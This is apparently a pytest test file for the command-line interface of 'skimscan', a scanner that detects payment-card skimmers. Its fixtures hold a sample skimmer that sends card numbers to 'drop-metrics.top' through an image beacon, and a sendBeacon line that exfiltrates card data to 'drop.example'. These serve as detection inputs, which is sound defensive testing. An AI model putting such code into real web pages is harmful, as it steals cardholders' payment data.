"""The CLI contract: formats, exit codes 0/1/2/3, bad files reported, env variables."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from skimscan.analyze.rules import load_rules
from skimscan.cli import build_parser, main
from skimscan.policy.policy import PIPELINE_RULE_IDS

SKIMMER = """
document.querySelector('#pay').addEventListener('click', function () {
  var n = document.querySelector('#cc_number').value;
  new Image().src = 'https://drop-metrics.top/p?d=' + btoa(n);
});
"""
BENIGN = "document.querySelector('#cc_number').addEventListener('input', function (e) {\n" \
         "  e.target.value = e.target.value.replace(/\\D/g, '');\n});\n"


@pytest.fixture()
def files(tmp_path: Path) -> Path:
    (tmp_path / "good.js").write_text(BENIGN)
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub" / "bad.js").write_text(SKIMMER)
    return tmp_path


def run(args: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str, str]:
    """The static contract: no detonation (a browser per run; tests/e2e/test_detonation_cli.py
    covers `--detonate`)."""
    code = main(["scan-file", "--no-cache", "-j", "1", "--detonate", "never", *args])
    out, err = capsys.readouterr()
    return code, out, err


def test_clean_file_exits_0(files: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = run([str(files / "good.js")], capsys)
    assert code == 0
    assert "1 clean" in out


def test_skimmer_exits_1_with_json_contract(
    files: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, err = run(["--format", "json", str(files)], capsys)
    assert code == 1
    data = json.loads(out)
    assert data["schema"] == "skimscan/report/v1"
    assert data["summary"] == {"targets": 2, "malicious": 1, "suspicious": 0, "clean": 1,
                               "errors": 0}
    bad = next(t for t in data["targets"] if t["target"].endswith("bad.js"))
    assert bad["verdict"] == "malicious" and bad["kind"] == "file"
    finding = next(f for f in bad["findings"] if f["rule"] == "card-data-to-untrusted-host")
    assert finding["severity"] == "critical" and finding["confidence"] == "high"
    assert finding["location"] == {"line": 4, "column": 2}
    assert finding["evidence"]["host"] == "drop-metrics.top"
    assert set(bad["scripts"][0]) >= {"id", "url", "kind", "frame", "sha256", "size",
                                      "host_class", "verdict"}
    assert "2 target(s)" in err


def test_fail_on_and_env(files: Path, capsys: pytest.CaptureFixture[str],
                         monkeypatch: pytest.MonkeyPatch) -> None:
    assert run(["--fail-on", "never", str(files)], capsys)[0] == 0
    assert run(["--fail-on", "critical", str(files)], capsys)[0] == 1
    assert run(["--min-confidence", "high", "--fail-on", "critical", str(files)], capsys)[0] == 1
    monkeypatch.setenv("SKIMSCAN_FAIL_ON", "never")
    # defaults are read when the parser is built
    assert run([str(files)], capsys)[0] == 0


def test_output_file(files: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    out_file = tmp_path / "report.json"
    code, out, _ = run(["-f", "json", "-o", str(out_file), str(files)], capsys)
    assert code == 1 and out == ""
    assert json.loads(out_file.read_text())["summary"]["malicious"] == 1


def test_also_writes_more_formats_from_one_scan(
    files: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    sarif, html, junit = tmp_path / "r.sarif", tmp_path / "r.html", tmp_path / "r.xml"
    code, out, _ = run(["-f", "json", "--also", f"sarif={sarif}", "--also", f"html={html}",
                        str(files)], capsys)
    assert code == 1
    assert json.loads(out)["summary"]["malicious"] == 1  # the main report still goes to stdout
    rules = {r["ruleId"] for r in json.loads(sarif.read_text())["runs"][0]["results"]}
    assert "card-data-to-untrusted-host" in rules
    assert "card-data-to-untrusted-host" in html.read_text()
    monkeypatch.setenv("SKIMSCAN_ALSO", f"junit={junit}")
    assert run([str(files)], capsys)[0] == 1
    assert "<testsuite" in junit.read_text()


def test_also_with_a_bad_format_fails_before_scanning(
    files: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, err = run(["--also", "pdf=r.pdf", str(files)], capsys)
    assert code == 2 and out == ""
    assert "FORMAT=FILE" in err


def test_bad_files_are_reported_and_others_complete(
    files: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (files / "blob.js").write_bytes(b"\x00\x01\x02binary")
    (files / "latin1.js").write_bytes("var s = 'caf\xe9';\n".encode("latin-1") + SKIMMER.encode())
    (files / "broken.js").write_text("function (\n")
    code, out, _ = run(["-f", "json", str(files), str(files / "missing.js")], capsys)
    assert code == 3  # incomplete outranks findings
    targets = {Path(t["target"]).name: t for t in json.loads(out)["targets"]}
    assert targets["blob.js"]["verdict"] == "error" and "binary" in targets["blob.js"]["error"]
    assert targets["missing.js"]["verdict"] == "error"
    assert targets["latin1.js"]["verdict"] == "malicious"
    assert any("invalid UTF-8" in n for n in targets["latin1.js"]["notes"])
    broken = targets["broken.js"]
    assert [f["rule"] for f in broken["findings"]] == ["unparsed-script"]
    assert targets["bad.js"]["verdict"] == "malicious"


def test_huge_file_runs_text_rules(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    big = tmp_path / "big.js"
    filler = "var a" + "0" * 70 + " = 1;\n"
    with big.open("w") as handle:
        handle.write("var f = document.getElementById('cc_number').value;\n")
        handle.write("navigator.sendBeacon('https://drop.example/x', f);\n")
        handle.write(filler * (50 * 1024 * 1024 // len(filler)))
    code, out, _ = run(["-f", "json", "--fail-on", "medium", "--min-confidence", "low",
                        str(big)], capsys)
    [target] = json.loads(out)["targets"]
    rules = {f["rule"] for f in target["findings"]}
    assert "unparsed-script" in rules and "card-exfil-text-pattern" in rules
    assert "parse budget" in next(f for f in target["findings"]
                                  if f["rule"] == "unparsed-script")["evidence"]["reason"]
    assert code == 1


def test_bad_rules_exit_2(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "r.yaml").write_text("id: r\n")
    code = main(["scan-file", "--rules", str(tmp_path), str(tmp_path)])
    err = capsys.readouterr().err
    assert code == 2
    assert err.startswith(f"skimscan: {tmp_path / 'r.yaml'}:1:")


def test_usage_error_exits_2(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as info:
        main(["scan-file", "--format", "pdf", "x.js"])
    assert info.value.code == 2


def test_rules_list_and_test(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["rules", "list"]) == 0
    assert "card-data-to-untrusted-host" in capsys.readouterr().out


def test_rules_list_shows_the_pipeline_rules_and_says_which_is_which(
        capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["rules", "list"]) == 0
    out, err = capsys.readouterr()
    rows = {line.split()[0]: line.split() for line in out.splitlines()[1:]}
    assert out.splitlines()[0].split() == ["ID", "SEVERITY", "CONFIDENCE", "SOURCE", "TITLE"]
    for rule in PIPELINE_RULE_IDS:
        assert rows[rule][3] == "pipeline", rule
    assert rows["card-data-to-untrusted-host"][1:4] == ["critical", "high", "yaml"]
    assert rows["canary-exfiltration"][1:4] == ["critical", "high", "pipeline"]
    assert list(rows) == sorted(rows)
    assert f"{len(rows)} rules: {len(rows) - len(PIPELINE_RULE_IDS)} from rule files" in err


def test_rules_list_json_lists_every_rule_in_a_stable_order(
        capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["rules", "list", "--format", "json"]) == 0
    rules = json.loads(capsys.readouterr().out)
    assert [r["id"] for r in rules] == sorted(r["id"] for r in rules)
    assert all(list(r) == ["id", "title", "severity", "confidence", "category", "tags",
                           "mitre", "pci", "source", "description"] for r in rules)
    by_id = {r["id"]: r for r in rules}
    assert {rid for rid, r in by_id.items() if r["source"] == "pipeline"} == PIPELINE_RULE_IDS
    assert len(by_id) == len(load_rules()) + len(PIPELINE_RULE_IDS)
    canary = by_id["canary-exfiltration"]
    assert (canary["severity"], canary["confidence"], canary["category"]) == (
        "critical", "high", "exfiltration")
    assert canary["mitre"] == ["T1056.003"] and "6.4.3" in canary["pci"]
    assert "medium (medium confidence) when only part" in canary["description"]
    own = by_id["card-data-to-untrusted-host"]
    assert own["source"] == "yaml" and own["mitre"] and own["pci"] and own["tags"]
    assert main(["rules", "list", "-f", "json"]) == 0
    assert json.loads(capsys.readouterr().out) == rules  # the same, run after run


def test_rules_list_format_reads_its_own_variable(
        monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    monkeypatch.setenv("SKIMSCAN_FORMAT", "sarif")  # the scans' format never reaches it
    assert main(["rules", "list"]) == 0
    assert capsys.readouterr().out.startswith("ID ")
    monkeypatch.setenv("SKIMSCAN_RULES_FORMAT", "json")
    assert main(["rules", "list"]) == 0
    assert isinstance(json.loads(capsys.readouterr().out), list)
    assert main(["rules", "list", "--format", "table"]) == 0  # the flag beats the variable
    assert capsys.readouterr().out.startswith("ID ")
    monkeypatch.setenv("SKIMSCAN_RULES_FORMAT", "xml")
    assert main(["rules", "list"]) == 2
    assert "SKIMSCAN_RULES_FORMAT='xml'" in capsys.readouterr().err


@pytest.mark.parametrize("argv", [
    ["--debug", "scan-file", "--root", "{missing}", "x.js"],
    ["scan-file", "--debug", "--root", "{missing}", "x.js"],
    ["scan-file", "--root", "{missing}", "x.js", "--debug"],
    ["--debug", "rules", "test", "--rule", "no-such-rule"],
    ["rules", "test", "--rule", "no-such-rule", "--debug"],
    ["rules", "--debug", "test", "--rule", "no-such-rule"],
], ids=lambda argv: " ".join(argv))
def test_debug_before_or_after_the_subcommand(
        argv: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    argv = [a.replace("{missing}", str(tmp_path / "missing")) for a in argv]
    assert main(argv) == 2
    assert "Traceback" in capsys.readouterr().err
    assert main([a for a in argv if a != "--debug"]) == 2
    err = capsys.readouterr().err
    assert "Traceback" not in err and err.startswith("skimscan: ")


def test_debug_variable_and_flags_agree(monkeypatch: pytest.MonkeyPatch,
                                        capsys: pytest.CaptureFixture[str]) -> None:
    """A subcommand's copy of --debug never resets the value given before it (or by the
    variable), and a flag before the subcommand still beats a bad variable."""
    assert build_parser().parse_args(["scan-file", "x.js"]).debug is False
    assert build_parser().parse_args(["--debug", "scan-file", "x.js"]).debug is True
    assert build_parser().parse_args(["policy", "init", "--debug", "u"]).debug is True
    monkeypatch.setenv("SKIMSCAN_DEBUG", "yes")
    assert build_parser().parse_args(["scan-file", "x.js"]).debug is True
    assert main(["rules", "test", "--rule", "no-such-rule"]) == 2
    assert "Traceback" in capsys.readouterr().err
    monkeypatch.setenv("SKIMSCAN_DEBUG", "loud")
    assert main(["--debug", "rules", "test", "--rule", "no-such-rule"]) == 2
    assert "SKIMSCAN_DEBUG" not in capsys.readouterr().err  # the rule error, with a traceback
    assert main(["rules", "test", "--rule", "no-such-rule"]) == 2
    assert capsys.readouterr().err.startswith("skimscan: SKIMSCAN_DEBUG='loud'")


def test_console_script_runs() -> None:
    exe = Path(sys.executable).with_name("skimscan")
    result = subprocess.run([str(exe), "--version"], capture_output=True, text=True,
                            env={**os.environ}, check=False)
    assert result.returncode == 0 and result.stdout.startswith("skimscan ")
